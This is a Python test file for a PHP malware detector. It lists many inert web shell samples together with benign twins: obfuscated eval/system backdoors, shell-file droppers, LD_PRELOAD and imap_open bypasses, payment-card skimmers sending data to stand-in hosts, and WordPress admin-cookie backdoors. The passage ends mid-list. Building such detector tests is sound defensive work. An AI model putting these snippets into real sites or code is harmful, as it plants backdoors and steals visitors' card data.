"""What the analysis of PHP points at and leaves alone. The samples are ours, and inert."""

from __future__ import annotations

import base64
import zlib

import pytest

from pratique.content.base import Content
from pratique.content.mark import ONLY_TYPED, Mark
from pratique.content.names import PHP_CODE, PHP_PROFILE
from pratique.content.php.analysis import LENGTH_LIMIT, find
from pratique.model import Gap

SURE = 0.7


def rows(source: str | bytes) -> list[Mark | Gap]:
    content = source if isinstance(source, bytes) else source.encode()
    content = b"<?php " + content
    found = find(Content(content, "/srv/a/x.php", "php"))
    return [row for row in found if isinstance(row, Gap) or row.mark != PHP_CODE]


def sure(source: str) -> set[str]:
    return {row.mark for row in rows(source) if isinstance(row, Mark) and row.confidence >= SURE}


RUNS_REQUEST = [
    "eval($_POST['c']);",
    "@eval( stripslashes( $_REQUEST[0] ) );",
    "assert($_COOKIE['a']);",
    "eval(base64_decode($_POST['c']));",
    "$x = $_POST['c']; $y = 'a' . $x; eval($y);",
    "foreach ($_POST as $k => $v) { eval($v); }",
    # a check that nobody heeds, one that lets all through, and one of something else
    "$c = $_POST['c']; preg_match('/^\\w+$/', $c); eval($c);",
    "$c = $_POST['c']; if (preg_match('/^[a-z]+/', $c)) { eval($c); }",
    "if (preg_match('/^[a-f0-9]{32}$/', $_POST['p'])) { eval($_POST['c']); }",
    "system(htmlspecialchars($_GET['c']));",
    "$p = $_GET['p']; $p = '/' . $p; preg_replace($p, $_POST['w'], 'a');",
    "list($a, $b) = explode('|', $_GET['q']); eval($b);",
    "extract($_POST); eval($code);",
    "foreach ($_GET as $k => $v) { $$k = $v; } system($cmd);",
    "parse_str($_SERVER['QUERY_STRING']); eval($a);",
    "function run($c) { return eval($c); } run($_POST['x']);",
    "function dec($c) { return strrev($c); } eval(dec($_COOKIE['k']));",
    "class A { function go($x) { eval($x); } } (new A)->go($_GET['a']);",
    "class A { public $p; function a() { $this->p = $_GET[1]; } function b() { eval($this->p); } }",
    "$f = function ($x) { eval($x); }; $f($_POST['a']);",
    "array_map(function ($x) { eval($x); }, $_POST);",
    "function g() { global $q; eval($q); } $q = $_GET['q'];",
    "system($_GET['c']);",
    "function f($m = 'sys' . 'tem') { $m($_GET['c']); }",
    "echo shell_exec($_SERVER['HTTP_X_CMD']);",
    "echo `{$_GET['c']}`;",
    "passthru(getenv('HTTP_ACCEPT_LANGUAGE'));",
    "mail('a@a.example', 's', 'b', '', $_GET['x']);",
    "eval(file_get_contents('php://input'));",
    "$h = getallheaders(); eval($h['X-A']);",
    "include $_GET['p'];",
    "include 'php://input';",
    "$f = ''; $f .= $_GET['x']; $f();",
    "$f = $_GET['a'] . 'x'; if ($b) { $f = 'c'; } $f();",
    "@$_GET['f']($_GET['x']);",
    "$f = $_POST['a']; $f($x);",
    "call_user_func($_GET['f'], 1);",
    "array_filter(array($_POST['x']), 'assert');",
    "usort($a, $_GET['f']);",
    "new $_GET['c']($_GET['x']);",
    "$r = new ReflectionFunction($_GET['f']); $r->invoke(1);",
    "preg_replace('/.*/e', $_REQUEST['x'], '');",
    "filter_var($_REQUEST['x'], FILTER_CALLBACK, array('options' => 'assert'));",
    "${'_P'.'OST'}; eval(${'_P' . 'OST'}['x']);",
    "$n = '_GET'; eval($$n['x']);",
    r'eval($GLOBALS["\x5fPOST"]["x"]);',
    "$x = 'ass' . 'ert'; $x($_POST['z']);",
    "$x = chr(115).chr(121).chr(115).chr(116).chr(101).chr(109); $x($_GET['c']);",
    "$s = 'metsys'; $f = strrev($s); $f($_GET['c']);",
    "$t = 'abemlstyx'; $f = $t[5].$t[7].$t[5].$t[6].$t[2].$t[3]; $f($_GET['c']);",
    "$a = str_replace('z', '', 'szyzsztezm'); $a($_GET['c']);",
    "eval/**/($_GET['a']);",
    "eval($_GET{'a'});",
    "$f = passthru; $f($_GET['c']);",
    "$a = join(array_diff(['s', 'x', 'y'], ['x'])); $a($_POST['x']);",
    "foreach (['_GET', '_POST'] as $n) { foreach ($$n as $k => $v) { $$k = $v; } } eval($c);",
    "call_user_func(create_function('', 'assert($_POST[1]);'));",
    r"""array_map("ass\x65rt", (array) $_REQUEST['x']);""",
    "$f = preg_filter('/\\s+/', '', 'as s er t'); $f($_REQUEST['x']);",
    "function b() { return \"l(\\$_POST['\"; } assert('eva' . b() . \"x']);\");",
    "$a = new ArrayObject(['t' => 1, $_REQUEST['x'] => 2]); $a->uksort('assert');",
    "preg_replace_callback('/.+/', create_function('$a', 'return assert($a[0]);'), $_GET['x']);",
    "$a = 'e'; $b = 'val($'; $c = '_POST'; $p = $a . $b . $c . '[1]);'; eval($p);",
    "$i = new ArrayIterator([$_GET[1]]); new CallbackFilterIterator($i, 'assert');",
    "class T { function __construct($f, $x) { $f($x); } } new T($_GET['a'], $_GET['b']);",
    "usort(...$_GET);",
    "$r = new ReflectionFunction('system'); $r->invoke($_GET['c']);",
    "$a = get_defined_functions(); $a['internal'][457]($_GET['x']);",
]


@pytest.mark.parametrize("source", RUNS_REQUEST)
def test_data_of_a_request_that_runs(source):
    assert "php-runs-request" in sure(source)


@pytest.mark.parametrize(
    "source",
    [
        "eval('$x = 1;'); echo $_GET['a'];",
        "system('ls ' . escapeshellarg($_GET['d']));",
        "exec('kill ' . intval($_GET['pid']));",
        "exec('kill ' . (int) $_GET['pid']);",
        "$map = ['a' => 'show']; $f = $map[$_GET['do']]; $f();",
        "if (in_array($_GET['a'], ['x', 'y'])) { $f = $_GET['a']; $f(); }",
        "$f = 'action_' . $_GET['a']; $f();",
        "include 'pages/' . $_GET['p'] . '.php';",
        "$f = '/etc/a-' . $_SERVER['HTTP_HOST']; if ($x) { $f = '/etc/b'; } require $f;",
        "$f = 'show_'; $f .= $_GET['x']; $f();",
        "include __DIR__ . '/' . basename($_GET['p']);",
        "$x = $_GET['a'] == 'b' ? 'c' : 'd'; include $x;",
        "array_map('trim', $_POST);",
        "usort($_POST['a'], function ($x, $y) { return $x <=> $y; });",
        "assert(is_string($_GET['a']));",
        "assert($_GET['a'] instanceof X);",
        "$d = $s->get('a', $_REQUEST['i']); assert(is_array($d)); assert(str_contains($d, 'a'));",
        # code that is made of names which a pattern of letters has let through
        "foreach ($_GET['f'] as $k => $v) { if (!preg_match('/^([a-z0-9_]+)$/', $k)) { return; }"
        " eval('return $row[\"' . $k . '\"];'); }",
        # a pattern that the program itself puts between its own signs
        "function r($p, $w, $d) { $s = ['/', '#']; $p = $s[$d] . $p . $s[$d];"
        " return preg_replace($p, $w, $this->text); } r($_POST['p'], $_POST['w'], 1);",
        "preg_replace('/a/i', $_GET['x'], 'b');",
        "preg_replace('/([a-z])/e', 'strtoupper(\"$1\")', $_GET['x']);",
        "$this->exec($_GET['a']);",
        "function system($x) {} system($_GET['a']);",
        "new PDO($_SERVER['DB']);",
        "$cb = $this->callbacks[$_GET['a']]; $cb();",
        "$f = 'sanitize_' . str_replace('-', '_', $type); $f($_POST['a']);",
        "echo htmlspecialchars($_GET['q']);",
    ],
)
def test_data_of_a_request_that_does_not_run(source):
    assert "php-runs-request" not in sure(source)


@pytest.mark.parametrize(
    ("mark", "source"),
    [
        ("php-runs-decoded", "eval(gzinflate(base64_decode('AAAA')));"),
        ("php-runs-decoded", "$a = 'base' . '64_decode'; eval($a('AAAA'));"),
        ("php-runs-decoded", "function d($s) { return $s ^ 'key'; } eval(d('AAAA'));"),
        ("php-runs-decoded", "assert(str_rot13('riny'));"),
        ("php-runs-decoded", "include 'data:text/plain;base64,AAAA';"),
        ("php-runs-decoded", "$f = 'create_' . 'function'; $f('', 'x');"),
        ("php-runs-decoded", "eval(substr(file_get_contents(__FILE__), 100));"),
        ("php-runs-remote", "eval(file_get_contents('http://b.example/x.txt'));"),
        ("php-runs-remote", "$c = curl_init('https://b.example/'); eval(curl_exec($c));"),
        ("php-runs-remote", "include 'http://b.example/x.txt';"),
        ("php-runs-remote", "file_put_contents('a.php', file_get_contents('http://b.example/x'));"),
        ("php-hidden-include", r'@include "\x2fhome\x2fa\x2f.x.ico";'),
        ("php-hidden-include", r'@include "\057home\057a\057x.txt";'),
        ("php-hidden-include", "require 'images/logo.png';"),
        ("php-hidden-include", "include base64_decode('L3RtcC94');"),
        ("php-writes-request", "file_put_contents($_POST['n'], $_POST['c']);"),
        ("php-writes-request", "$h = fopen('x.php', 'w'); fwrite($h, $_GET['c']);"),
        (
            "php-writes-request",
            "move_uploaded_file($_FILES['f']['tmp_name'], './' . $_FILES['f']['name']);",
        ),
        ("php-mails-password", "mail('a@b.example', 's', 'p: ' . $_POST['password']);"),
        (
            "php-mails-password",
            "foreach ($_POST as $v) { $m .= $v; } mail('a@b', '', $m); ?><input type=password>",
        ),
        (
            "php-mails-password",
            "file_get_contents('https://api.telegram.org/bot1/send?text=' . $_POST['pin']);",
        ),
        ("php-mails-password", "file_put_contents('log.txt', $_POST['passwd'], FILE_APPEND);"),
        ("php-long-hidden-line", "$a = 1;" + " " * 150 + "eval($x);"),
    ],
)
def test_points_at(mark, source):
    assert mark in sure(source)


@pytest.mark.parametrize(
    "source",
    [
        "$x = base64_decode($row['data']); echo $x;",
        "include 'header.php'; include __DIR__ . '/../vendor/autoload.php';",
        "$body = file_get_contents('https://api.example/v1'); $d = json_decode($body);",
        "mail($user->email, 'Welcome', 'Hello ' . $_POST['name']);",
        "file_put_contents('/var/cache/x.txt', $_POST['comment']);",
        "if (!in_array($ext, $ok)) die; move_uploaded_file($_FILES['f']['tmp_name'], $name);",
        "$a = ['x' => 1,\n" + " " * 150 + "'y' => 2];",
        "$f = 'get_' . $type; $f();",
        "echo preg_replace('/[^a-z]/', '', $_GET['x']);",
    ],
)
def test_leaves_alone(source):
    assert sure(source) == set()


def test_says_how_the_data_gets_there():
    (mark,) = rows("\n$x = $_POST['c'];\neval(base64_decode($x));\n")
    assert mark.line == 3
    assert mark.why == (
        "The value of $_POST['c'] (line 2) goes through base64_decode (line 3)"
        " and is run by eval on line 3."
    )


def test_a_long_source_is_told():
    content = b"eval($_GET[1]);" + b"//" + b"x" * LENGTH_LIMIT
    reasons = {row.reason for row in rows(content) if isinstance(row, Gap)}
    assert reasons == {"longer than the PHP analysis reads"}


def test_what_follows_the_halt_statement_hides_nothing():
    junk = bytes((i * 7919) % 251 for i in range(20_000))
    found = rows(b"eval($_GET[1]);__halt_compiler();" + junk)
    assert "php-runs-request" in {row.mark for row in found if isinstance(row, Mark)}


@pytest.mark.parametrize(
    "source",
    [
        "eval(" + "(" * 20_000 + "$_GET[1]" + ")" * 20_000 + ");",
        "eval('a'" + ".'b'" * 20_000 + ".$_GET[1]);",
        "eval($_GET[1]); $x = " + "[" * 20_000,
        "eval($_GET[1]);" + "if(1){" * 20_000 + "}" * 20_000,
    ],
)
def test_depth_is_no_hiding_place(source):
    assert "php-runs-request" in sure(source)


def test_more_connections_than_are_followed_are_told():
    tangle = "$a = $a . $b;" * 3000 + "eval($a . base64_decode($a));" * 3000
    assert "PHP with more connections than are followed" in {
        row.reason for row in rows(tangle) if isinstance(row, Gap)
    }


def deflated(text: str) -> str:
    packed = zlib.compress(text.encode(), 9)[2:-4]
    return f"gzinflate(base64_decode('{base64.b64encode(packed).decode()}'))"


def xored(name: str) -> str:
    mixed = bytes(c ^ ord("k") for c in name.encode())
    return f"(hex2bin('{mixed.hex()}') ^ '{'k' * len(name)}')"


def in_base64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


SPLIT = """
$k = 'if (time() < 0) { ev!qal($_PO!qST["c"]); }';
$f = str_replace('w', '', '%s');
$g = $f('', str_replace('!q', '', $k));
"""
DIFFERENCE = "$f = join(array_diff(str_split('%s'), ['x'])); array_map($f, array($_POST['c']));"


# Each with its near twin, which hides in the same way and does nothing to anybody.
@pytest.mark.parametrize(
    ("marks", "source", "twin"),
    [
        (
            {"php-runs-request", "php-runs-decoded"},
            SPLIT % "crweawtew_fuwnction",
            SPLIT % "swtr_wrewplawce",
        ),
        (
            {"php-runs-request", "php-runs-decoded"},
            DIFFERENCE % "sxyxsxtxexm",
            DIFFERENCE % "xtxrxixmx",
        ),
        (
            {"php-runs-request", "php-runs-decoded"},
            f"eval({deflated('eval(' + deflated('eval($_POST[1]);') + ');')});",
            f"echo {deflated('echo ' + deflated('eval($_POST[1]);') + ';')};",
        ),
        (
            {"php-hidden-include"},
            f"@include base64_decode('{in_base64('/srv/a/.5f1c.ico')}');",
            "@include '/srv/a/' . 'lib' . '/header.php';",
        ),
        (
            {"php-hidden-include"},
            r'@include "\057sr\166/a/.\146av\x2eico";',
            r'echo "\057sr\166/a/.\146av\x2eico";',
        ),
        (
            {"php-runs-request", "php-runs-decoded"},
            f"$f = {xored('shell_exec')}; echo $f($_POST['c']);",
            f"$f = {xored('strtolower')}; echo $f($_POST['c']);",
        ),
    ],
    ids=["str_replace", "array_diff", "two layers", "include", "escapes", "exclusive or"],
)
def test_what_is_hidden_is_found_and_its_innocent_twin_is_not(marks, source, twin):
    assert sure(source) >= marks
    assert sure(twin) == set()


def test_a_mark_in_a_layer_says_how_deep_it_lies_and_points_at_the_file():
    inner = "eval(" + deflated("\n\nif (time() < 0) { system($_GET['c']); }") + ");"
    found = rows("\n\neval(" + deflated(inner) + ");")
    (mark,) = [row for row in found if isinstance(row, Mark) and row.mark == "php-runs-request"]
    assert mark.line == 3
    assert mark.quote == "system($_GET['c'])"
    assert "hidden under 2 layers" in mark.why


def test_what_takes_too_many_steps_is_told():
    endless = "eval(" + deflated("$x = 'a'; while (true) { $x = md5($x); }") + ");"
    reasons = {row.reason for row in rows(endless) if isinstance(row, Gap)}
    assert reasons == {"PHP that takes too many steps"}


@pytest.mark.parametrize(
    "source",
    [
        "file_put_contents('a.php', '<?php ev' . 'al($_POST[1]);');",
        "$t = base64_decode('PD9waHAgZXZhbCgkX1BPU1RbMV0pOw=='); fputs(fopen('a.php', 'w'), $t);",
        "fputs(fopen(c.php, w), '<? eval($_POST[1]);?>');",
        "fputs(fopen('a.php', 'w'), pack('H*', '3c3f706870206576616c28245f504f53545b315d293b'));",
        "$a = '<?php @eval(' . '$' . '_POST[c]);?>'; file_put_contents('x.jpg' . chr(9), $a);",
    ],
)
def test_a_program_that_is_written(source):
    assert "php-drops-program" in sure(source)


@pytest.mark.parametrize(
    "source",
    [
        "file_put_contents('config.php', '<?php $db = ' . var_export($x, true) . ';');",
        "file_put_contents('a.php', '<?php return ' . '1;');",
    ],
)
def test_a_program_that_is_written_and_does_nothing(source):
    assert "php-drops-program" not in sure(source)


# Ways of hiding a name, of running a text and of sending one away.
FOUND = [
    '$😀="s";$😁="y";$😂="t";$🤣="e";$😃="m"; $🙂=$😀.$😁.$😀.$😂.$🤣.$😃; $🙂($_GET[\'c\']);',
    "$é = 'sys' . 'tem'; $é($_POST['x']);",
    (
        "$f=chr(99).chr(104).chr(114);$a=array($f(101).$f(120).$f(101).$f(99),$f(115).$"
        "f(121).$f(115).$f(116).$f(101).$f(109)); foreach ($a as $n) { if "
        "(function_exists($n)) { $n($_COOKIE['c']); } }"
    ),
    "fputs(fopen('c.php','w'),\"<?eval($_POST[c]);\");",
    'eval(file_get_contents("session"));',
    (
        "class t { public $data = 'Hi'; public function & get(){ return $this->data; } "
        "} $o = new t(); $d = &$o->get(); $d = $_GET['x']; function foo(&$v) { "
        "$v=$v.'t'; } $a=\"asser\"; foo($a); $a($o->data);"
    ),
    ("class W { function 🙂($c) { return eval($c); } } $👽 = new W; $👽->🙂($_POST['c']);"),
    ("function f() { $c = file_get_contents('wp-content/uploads/.cache'); eval($c); } f();"),
    "if ($_COOKIE['z'] == 'q') { @eval(php_strip_whitespace('logo.txt')); }",
    (
        '$w = "<?php system(\\$_GET[\'{$_POST[\'k\']}\']);"; $h = fopen("a.php", "w"); '
        "fwrite($h, $w);"
    ),
    (
        "ob_start(function ($c,$d){register_shutdown_function('assert',$c);}); echo "
        "$_REQUEST['pass']; ob_end_flush();"
    ),
    (
        "class K { function p($b) { register_shutdown_function('system', $b); return "
        "''; } } $k = new K; ob_start([$k, 'p']); echo $_COOKIE['x'];"
    ),
    (
        "ob_start('keep'); function keep($b) { register_shutdown_function('exec', $b); "
        "} print $_GET['q']; ob_end_flush();"
    ),
    (
        "function h($n, $m) { eval($m); } set_error_handler('h'); "
        "trigger_error($_POST['e'], E_USER_ERROR);"
    ),
    ("set_error_handler(function ($n, $m) { system($m); }); trigger_error($_GET['e']);"),
    "set_exception_handler('system'); throw new Exception($_POST['c']);",
    (
        "set_exception_handler(function ($e) { eval($e->getMessage()); }); throw new "
        "Exception($_POST['c']);"
    ),
    (
        "try { throw new Exception($_REQUEST['c']); } catch (Exception $e) { "
        "assert($e->getMessage()); }"
    ),
    (
        "function t($e) { passthru($e->getMessage()); } set_exception_handler('t'); "
        "throw new RuntimeException(base64_decode($_COOKIE['c']));"
    ),
    (
        "class E2 extends Exception { function run() { eval($this->message); } } try { "
        "throw new E2($_POST['a']); } catch (E2 $e) { $e->run(); }"
    ),
    "enum F: string { case Run = 'system'; } (F::Run->value)($_GET['c']);",
    (
        "enum F: string { case A = 'sys'; case B = 'tem'; } $f = F::A->value . "
        "F::B->value; $f($_GET['c']);"
    ),
    ("class C { const A = 'sys'; const B = 'tem'; } $f = C::A . C::B; $f($_POST['c']);"),
    "define('A1', 'ass'); define('A2', 'ert'); $f = A1 . A2; $f($_POST['x']);",
    "$GLOBALS['f'] = 'system'; $GLOBALS['f']($_GET['c']);",
    "$GLOBALS['_G']['x'] = 'sys' . 'tem'; $GLOBALS['_G']['x']($_GET['c']);",
    "$GLOBALS['a'] = $_POST['a']; function f() { eval($GLOBALS['a']); } f();",
    (
        "function f() { global $a; $GLOBALS['b'] = $a; eval($b); } $a = $_POST['x']; "
        "f(); eval($GLOBALS['b']);"
    ),
    "eval($GLOBALS['_' . 'POST']['x']);",
    "$k = '_PO' . 'ST'; eval($GLOBALS[$k]['x']);",
    "foreach ($GLOBALS as $k => $v) { if ($k == '_GET') eval($v['x']); }",
    "extract($GLOBALS['_REQUEST']); $a($b);",
    "$v = end(array_values($GLOBALS)); eval(current(current($GLOBALS)));",
    "eval(implode('', reset(get_defined_vars())));",
    "eval(array_pop(next(get_defined_vars())));",
    "eval(end(getallheaders()));",
    "eval(hex2bin(session_id(session_start())));",
    "$y = ~\"\\x8c\\x86\\x8c\\x8b\\x9a\\x92\"; $y($_REQUEST['c']);",
    '(~"\\x01\\x02")($_REQUEST[0]);',
    "$_ = $x | $y; ${'_' . $_}['_'](${'_' . $_}['__']);",
    "$n = strtoupper(substr($z, 1, 3)); ${'_' . $n}['f'](${'_' . $n}['a']);",
    (
        "$l = array('a','s','s','e','r','t'); $f = ''; for ($i = 0; $i < count($l); "
        "$i++) { $f .= $l[$i]; } $f($_REQUEST['c']);"
    ),
    (
        "$l = str_split('metsys'); $f = ''; foreach (array_reverse($l) as $c) { $f .= "
        "$c; } $f($_REQUEST['c']);"
    ),
    (
        "$l = ['t','s','m','e','y']; $f = ''; foreach ($order as $i) { $f .= $l[$i]; } "
        "$f($_REQUEST['c']);"
    ),
    (
        "class T { public $l = ['t','s','m','e','y']; function r($o) { $f = ''; "
        "foreach ($o as $i) { $f .= $this->l[$i]; } return $f($_REQUEST['c']); } } "
        "(new T)->r($o);"
    ),
    "preg_filter($ad, $_REQUEST['domain'], '');",
    "function a($p) { return preg_replace($p, $_POST['b'], ''); } a($q);",
    "preg_replace($k, stripslashes($_COOKIE['z']), 'a');",
    (
        "/** assert $_POST */ class D {} $r = new ReflectionClass('D'); $s = "
        "$r->getDocComment(); $f = substr($s, 4, 6); $f($_POST['x']);"
    ),
    (
        "class D { /** systemx */ function a() {} } $s = (new ReflectionMethod('D', "
        "'a'))->getDocComment(); call_user_func(substr($s, 4, 6), $_GET['x']);"
    ),
    ("class D {} $r = new ReflectionClass('D'); eval(trim($r->getDocComment(), '/* '));"),
    (
        "function d($s) { $r = ''; for ($i = 0; $i < strlen($s); $i += 1) $r .= "
        "chr(ord($s[$i]) - 3); return $r; } $a = '_GET'; $b = $$a; "
        "call_user_func(d('dvvhuw'), '$c=function() { ' . $b['code'] . '}');"
    ),
    ("function d($s) { return strrev($s); } array_map(d('metsys'), array($_GET['c']));"),
    "yaml_parse($y, 0, $n, ['!' . $_REQUEST['p'] => 'preg_replace']);",
    "yaml_parse($_POST['y'], 0, $n, ['!run' => 'system']);",
    "preg_replace_callback_array([$_GET['p'] => $_GET['f']], $_GET['s']);",
    "preg_replace_callback_array(['/.+/' => 'system'], $_GET['s']);",
    (
        "filter_var_array(['a' => $_GET['x']], ['a' => ['filter' => FILTER_CALLBACK, "
        "'options' => 'system']]);"
    ),
    ("imap_open('{x -oProxyCommand=echo\\tZWNobyAx|base64\\t-d|sh}:143/imap}INBOX', '', '');"),
    (
        "$s = \"x -oProxyCommand=echo\\t\" . base64_encode($_POST['c']) . "
        "\"|base64\\t-d|sh}\"; imap_open('{' . $s . ':143/imap}INBOX', '', '');"
    ),
    "putenv('LD_PRELOAD=/tmp/x.so'); mail('a', 'b', 'c');",
    "putenv(\"LD_PRELOAD=./uploads/a.so\"); error_log('a', 1);",
    ("putenv(\"EVIL=id\"); putenv(\"LD_PRELOAD=/var/tmp/l.so\"); mb_send_mail('', '', '');"),
    (
        "class P { function go() { putenv('LD_PRELOAD=' . __DIR__ . '/b.so'); "
        "imap_mail('a', 'b', 'c'); } } (new P)->go();"
    ),
    "putenv('GCONV_PATH=/tmp/'); iconv('payload', 'UTF-8', 'x');",
    (
        "$p = '/tmp/l' . '.so'; file_put_contents($p, "
        "base64_decode('f0VMRgIBAQAAAAAA')); putenv(\"LD_PRELOAD=$p\"); mail('', '', '', "
        "'');"
    ),
    (
        "$c = curl_init('https://stat.example/j.php'); curl_setopt($c, "
        "CURLOPT_POSTFIELDS, json_encode($_POST['payment'])); curl_exec($c);"
    ),
    (
        "if (isset($_POST['payment'])) { $c = curl_init(); curl_setopt($c, "
        "CURLOPT_URL, 'https://a.example/g'); curl_setopt($c, CURLOPT_POST, 1); "
        "curl_setopt($c, CURLOPT_POSTFIELDS, 'd=' . base64_encode(serialize($_POST))); "
        "curl_exec($c); }"
    ),
    (
        "if (!empty($_REQUEST['payment']['cc_number'])) { "
        "@file_get_contents('https://a.example/i.gif?' . "
        "base64_encode(json_encode($_REQUEST['payment']))); }"
    ),
    (
        "$p = $_POST['payment']; if ($p['cc_number']) { mail('box@a.example', 'x', "
        "print_r($p, true)); }"
    ),
    (
        "curl_setopt_array($ch, [CURLOPT_URL => 'https://a.example/', "
        "CURLOPT_POSTFIELDS => http_build_query($_POST['payment'])]); curl_exec($ch);"
    ),
    (
        "$u = new COM(\"Shell.Users\"); $h = $u->create('support'); "
        "$h->changePassword('Q1w2e3', '');"
    ),
    (
        '$us = $wpdb->get_results("SELECT ID FROM $wpdb->users"); foreach ($us as $u) '
        "{ $id = $u->ID; if (user_can($id, 'administrator')) { $i = get_userdata($id); "
        "wp_set_current_user($id, $i->user_login); wp_set_auth_cookie($id); "
        "wp_redirect(admin_url()); exit; } }"
    ),
    (
        "require 'wp-load.php'; $a = get_users(['role' => 'administrator']); "
        "wp_set_auth_cookie($a[0]->ID); header('Location: wp-admin/');"
    ),
    (
        "foreach (get_super_admins() as $n) { $u = get_user_by('login', $n); "
        "wp_set_auth_cookie($u->ID, true); }"
    ),
    (
        '$id = $wpdb->get_var("SELECT user_id FROM {$wpdb->usermeta} WHERE meta_value '
        "LIKE '%administrator%' LIMIT 1\"); wp_set_auth_cookie($id); "
        "wp_redirect('/wp-admin/');"
    ),
    (
        '$ar = array("0"=>"h","1"=>"i","2"=>"a","3"=>"@","4"=>"s","5"=>"."); $to = '
        '$ar["0"].$ar["1"].$ar["3"].$ar["2"].$ar["4"].$ar["5"].$ar["1"].$ar["4"]; '
        "mail($to, 's', $data['cc_number']);"
    ),
    ("$to = base64_decode('Ym94QGEuZXhhbXBsZQ=='); mail($to, 'shop', print_r($card, true));"),
    (
        "$to = strrev('elpmaxe.a@xob'); @mail($to, 'host', $_SERVER['HTTP_HOST'] . "
        "$_SERVER['REQUEST_URI']);"
    ),
    "mail(chr(98).chr(111).chr(64).chr(97).chr(46).chr(99).chr(111), $s, $b);",
    (
        "class E1 { function sys($b) { foreach ($b as $f) { if ($f == 'system') { "
        "return 1; } } } function write($p, $v, $n = 8) { $i = 0; for ($i = 0; $i < "
        "$n; $i++) { $this->abc[$p + $i] = chr($v & 0xff); $v >>= 8; } } function "
        "parse_elf($base) { $e_type = $this->leak($base, 0x10, 2); if ($this->leak($a) "
        "== 0x6d6574737973) { return $a; } } function go($cmd) { $this->write(0xd0 + "
        "0x38, 1, 4); $this->write(0xd0 + 0x68, $zif_system); "
        "($this->helper->b)($cmd); } }"
    ),
]

LEFT = [
    "$😀 = 'Hello'; echo $😀, htmlspecialchars($_GET['n']);",
    "$names = ['héllo' => 'trim']; $é = $names['héllo']; echo $é($_GET['n']);",
    "eval('?>' . file_get_contents('page.tpl'));",
    "eval('?>' . file_get_contents('notes.txt'));",
    "$c = file_get_contents('settings.inc'); eval($c);",
    "echo file_get_contents('notes.txt');",
    "$open = 'sys'; $table = $open . '_tem'; echo $table($x);",
    ("$h = fopen('config.php', 'w'); fwrite($h, \"<?php return ['db' => 1];\"); echo $_POST['x'];"),
    (
        'function errs($n, $m, $f, $l) { error_log("$m in $f:$l"); } '
        "set_error_handler('errs'); if (empty($_POST['a'])) trigger_error('no ' . "
        "$_GET['q']);"
    ),
    (
        "set_exception_handler('show'); function show($e) { echo "
        "htmlspecialchars($e->getMessage()); } throw new RuntimeException('bad page ' "
        ". $_GET['p']);"
    ),
    (
        "class H { static function h($e) { mail('admin@site.example', 'error', "
        "$e->getMessage()); } } set_exception_handler(['H', 'h']); if (!$_POST) throw "
        "new Exception('no form');"
    ),
    (
        "try { run($_GET['job']); } catch (Exception $e) { "
        "file_put_contents('log/error.txt', $e->getMessage(), FILE_APPEND); }"
    ),
    (
        "ob_start('minify'); function minify($b) { return preg_replace('/\\s+/', ' ', "
        "$b); } echo $_GET['q'];"
    ),
    (
        "function clean($v) { return is_array($v) ? array_map('clean', $v) : "
        "stripslashes($v); } $_POST = array_map('clean', $_POST); system('ls /tmp');"
    ),
    (
        "function render($n) { include __DIR__ . '/tpl/' . basename($n) . '.php'; } "
        "array_map('render', explode(',', $_GET['t']));"
    ),
    (
        "register_shutdown_function('done'); function done() { exec('/usr/bin/nice -n "
        "19 /usr/local/bin/queue >/dev/null &'); } echo $_GET['q'];"
    ),
    (
        "enum Kind: string { case A = 'trim'; case B = 'strtolower'; } $f = "
        "(Kind::A->value); echo $f($_GET['q']);"
    ),
    "enum Size: int { case S = 1; } echo Size::from((int) $_GET['s'])->name;",
    (
        "foreach ($_GET as $k => $v) { $GLOBALS[$k] = $v; } include 'pages/' . "
        "basename($page) . '.php';"
    ),
    ("$GLOBALS['db'] = new PDO('sqlite:x'); $GLOBALS['db']->query('select 1'); echo $_GET['q'];"),
    (
        "$GLOBALS['hooks']['save'][] = 'on_save'; foreach ($GLOBALS['hooks']['save'] "
        "as $h) { $h($_POST['id']); }"
    ),
    (
        "$GLOBALS['lang'] = $_GET['lang'] == 'de' ? 'de' : 'en'; include "
        "\"lang/{$GLOBALS['lang']}.php\";"
    ),
    "extract($GLOBALS); echo $title; system('uptime');",
    ("$flags = E_ALL & ~E_NOTICE; error_reporting($flags); $f = 'trim'; echo $f($_GET['x']);"),
    "$mask = ~$_GET['m'] & 255; echo dechex($mask);",
    "$units = ['s', 'm', 'h', 'd']; echo (int) $_GET['n'] . $units[$_GET['u']];",
    (
        "$m = ['a' => 'add', 'e' => 'edit', 'd' => 'del']; $f = $m[$_GET['do']] ?? "
        "'show'; $f($_GET['id']); function add($i) {} function edit($i) {} function "
        "del($i) {} function show($i) {}"
    ),
    "echo preg_replace($pattern, $_POST['new'], $text);",
    "echo preg_replace('/x/', $_POST['new'], '');",
    "echo preg_replace($rules[$k], strtolower($_GET['n']), 'The name of it');",
    (
        "$r = new ReflectionClass($c); if (preg_match('/@route (\\S+)/', "
        "$r->getDocComment(), $m)) { $routes[$m[1]] = $c; } echo $_GET['x'];"
    ),
    "$doc = $m->getDocComment(); preg_match('/@cli (\\w+)/', $doc, $x); echo $x[1];",
    (
        "class Router { function load($c) { $d = (new "
        "ReflectionClass($c))->getDocComment(); preg_match('/@handler (\\S+)/', $d, "
        "$m); return new $m[1]($_GET); } }"
    ),
    "${'_' . 'x'} = 5; echo $_x; echo $_GET['a'];",
    "$name = 'lang_' . $_GET['l']; echo $$name;",
    "foreach (['a', 'b'] as $n) { ${'field_' . $n} = $_POST[$n]; } echo $field_a;",
    (
        "call_user_func(get_handler($_GET['a']), $x); function get_handler($a) { $h = "
        "['a' => 'x', 'b' => 'y']; return $h[$a]; }"
    ),
    (
        "array_map(trim_all('x'), $_GET); function trim_all($c) { return function ($v) "
        "use ($c) { return trim($v, $c); }; }"
    ),
    (
        "echo preg_replace_callback_array(['/a/' => 'strtoupper', '/b/' => function "
        "($m) { return $m[0]; }], $_GET['s']);"
    ),
    ("$y = yaml_parse_file('conf.yml', 0, $n, ['!date' => 'make_date']); echo $_GET['a'];"),
    (
        "putenv('LD_PRELOAD='); exec('/usr/bin/convert a.png b.jpg'); "
        "mail('a@site.example', 'done', 'x');"
    ),
    (
        "putenv('LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2'); exec('node "
        "build.js'); error_log('built');"
    ),
    "putenv('LD_LIBRARY_PATH=/opt/x/lib'); mail('a@site.example', 'done', 'x');",
    ("$m = imap_open('{' . $host . ':993/imap/ssl}INBOX', $_POST['user'], $_POST['pass']);"),
    (
        "$m = imap_open('{' . $_POST['imaphost'] . ':143}', $_POST['imapuser'], "
        "$_POST['emailpassword']);"
    ),
